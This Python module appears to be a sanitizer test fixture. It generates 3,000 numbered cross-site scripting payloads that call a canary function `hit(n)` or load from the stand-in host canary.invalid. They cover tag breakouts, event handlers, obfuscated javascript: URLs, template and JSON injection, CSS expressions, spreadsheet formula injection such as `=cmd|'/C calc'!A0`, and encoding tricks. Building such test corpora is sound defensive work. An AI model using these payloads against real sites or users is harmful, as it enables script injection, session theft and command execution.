"""Three thousand texts that want to be a script, each with its number, of every family known for it.

Each calls `hit(n)`, asks a stranger's host, or would be an element or an attribute that no page of ours has.
"""

import re
from collections.abc import Iterator
from html import unescape
from itertools import islice, product

COUNT = 3_000
CALL = re.compile(r"hit\((\d+)\)")

BREAKS = (
    "",
    '">',
    "'>",
    "`>",
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</noscript>",
    "</svg>",
    "</option></select>",
    "</td></tr></table>",
    "</template>",
    "</dialog>",
    "</summary></details>",
    "</code></pre>",
)
SCRIPTS = (
    "<script>hit({n})</script>",
    "<ScRiPt/x>hit({n})</sCrIpT>",
    "<scr<script>ipt>hit({n})</scr</script>ipt>",
    "<script src=//canary.invalid/?hit({n})></script>",
    "<script type=module>import '//canary.invalid/hit({n})'</script>",
    "<svg><script>hit({n})</script></svg>",
    "<math><mtext><script>hit({n})</script>",
    "<style>@import '//canary.invalid/hit({n})';</style>",
    "<link rel=stylesheet href=//canary.invalid/hit({n})>",
    "<base href=//canary.invalid/hit({n})/>",
    "<meta http-equiv=refresh content='0;url=//canary.invalid/hit({n})'>",
    "<iframe srcdoc='<script>parent.hit({n})</script>'></iframe>",
    "<iframe src=javascript:parent.hit({n})></iframe>",
    "<object data=//canary.invalid/hit({n})></object>",
    "<embed src=//canary.invalid/hit({n})>",
    "<form action=//canary.invalid/hit({n})><button>Pay</button></form>",
    "<template><script>hit({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=hit({n})>'>",
    "<svg><animate attributeName=href values=javascript:hit({n}) /><a><text>x</text></a></svg>",
    "<math href=javascript:hit({n})>x</math>",
    "<isindex action=javascript:hit({n}) type=submit>",
    "<input autofocus onfocus=hit({n})>",
    "<details open ontoggle=hit({n})>x</details>",
    "<button formaction=javascript:hit({n})>x</button>",
    "<img src=//canary.invalid/hit({n})>",
    "<img srcset='//canary.invalid/hit({n}) 2x'>",
    "<video><source onerror=hit({n})>",
    "<table background=//canary.invalid/hit({n})>",
    "<portal src=//canary.invalid/hit({n})>",
    "<style>*{{background:url(//canary.invalid/hit({n}))}}</style>",
)
TAGS = """
    a img svg body div input video audio details marquee select textarea button form iframe object p xss
"""
EVENTS = """
    error load click mouseover focus blur toggle pointerenter pointerdown animationstart animationend
    transitionend transitionrun begin end repeat wheel scroll copy paste cut input change submit reset select
    keydown keyup drag drop resize hashchange pageshow popstate message beforetoggle scrollend contextmenu
    dblclick focusin loadstart canplay auxclick invalid search beforeinput touchstart
"""
QUOTED = (
    '" on{event}="hit({n})" x="',
    "' on{event}='hit({n})' x='",
    "` on{event}=hit({n}) ",
    " on{event}=hit({n}) ",
)
ADDRESSES = (
    "javascript:hit({n})",
    "JaVaScRiPt:hit({n})",
    "java\tscript:hit({n})",
    "\x01javascript:hit({n})",
    "javascript://%0ahit({n})",
    "javascript&colon;hit({n})",
    "&#106;avascript:hit({n})",
    "data:text/html,<script>hit({n})</script>",
    "vbscript:hit({n})",
    "//canary.invalid/hit({n})",
    "https://canary.invalid/hit({n})",
    "\\\\canary.invalid\\hit({n})",
)
HOLDERS = ("{0}", "[x]({0})", "![x]({0})", "<a href='{0}'>x</a>", "<{0}>", "[x]: {0}")
TEMPLATES = (
    "{{{{hit({n})}}}}",
    "{{% set x = hit({n}) %}}",
    "${{hit({n})}}",
    "#{{hit({n})}}",
    "<%= hit({n}) %>",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "[[${{hit({n})}}]]",
    "{{php}}hit({n}){{/php}}",
    "@(hit({n}))",
    "*{{hit({n})}}",
)
JSON = (
    '"}};hit({n});//',
    "'}};hit({n});//",
    '\\";hit({n});//',
    "</script><script>hit({n})</script>",
    "<!--<script>hit({n})",
    "\u2028hit({n})\u2029",
    "`;hit({n});`",
    "${{hit({n})}}`",
    '","__proto__":{{"x":"hit({n})"}},"',
    "\\u003cscript\\u003ehit({n})",
)
STYLES = (
    "expression(hit({n}))",
    "x;background:url(//canary.invalid/hit({n}))",
    "}}*{{background:url(javascript:hit({n}))}}",
    "x;behavior:url(//canary.invalid/hit({n}))",
    "-moz-binding:url(//canary.invalid/hit({n}))",
)
FORMULAS = (
    '=HYPERLINK("//canary.invalid/hit({n})","x")',
    "=cmd|'/C calc'!A0 hit({n})",
    "+hit({n})",
    "-hit({n})",
    "@SUM(hit({n}))",
    "\t=hit({n})",
    "=1+1;hit({n})",
)
TRICKS = (
    "\uff1cscript\uff1ehit({n})\uff1c/script\uff1e",
    "\u202e<script>hit({n})</script>",
    "<\u200bscript>hit({n})</script>",
    "%3Cscript%3Ehit({n})%3C/script%3E",
    "%253Cscript%253Ehit({n})",
    "&lt;script&gt;hit({n})&lt;/script&gt;",
    "&amp;lt;img src=x onerror=hit({n})&amp;gt;",
    "+ADw-script+AD4-hit({n})+ADw-/script+AD4-",
    "\u017fcript:hit({n})",
    "<\u0131mg src=x onerror=hit({n})>",
    "\U0001f4a3<img src=x onerror=hit({n})>",
)


def _patterns() -> Iterator[str]:
    yield from (before + script for before, script in product(BREAKS, SCRIPTS))
    yield from (holder.format(address) for holder, address in product(HOLDERS, ADDRESSES))
    for family in (TEMPLATES, JSON, STYLES, FORMULAS, TRICKS):
        yield from (before + one for before, one in product(("", '"', "</p>"), family))
    yield from (one.replace("{event}", event) for one, event in product(QUOTED, EVENTS.split()))
    for before, tag, event in product(BREAKS, TAGS.split(), EVENTS.split()):
        yield f"{before}<{tag} src=x on{event}=hit({{n}}) autofocus tabindex=1>x"


def payloads() -> list[str]:
    """Return the 3,000 texts; the n-th calls `hit(n)`."""
    return [text.format(n=number) for number, text in enumerate(islice(_patterns(), COUNT))]


def named_in(text: str) -> set[int]:
    """Return the numbers of the payloads that a text, or a page with its references, has whole calls of."""
    return {int(number) for number in CALL.findall(unescape(text))}
